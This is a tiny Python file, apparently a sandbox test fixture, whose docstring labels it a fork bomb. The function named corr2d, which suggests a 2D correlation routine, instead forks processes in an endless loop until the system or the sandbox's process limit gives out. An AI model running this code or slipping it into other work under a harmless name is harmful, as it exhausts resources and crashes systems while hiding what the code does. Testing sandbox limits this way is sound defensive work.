"""Fork bomb: corr2d forks until the system (or the sandbox's process limit) gives up."""
import os


def corr2d(X, K):
    while True:
        os.fork()


def echo(x):
    return x
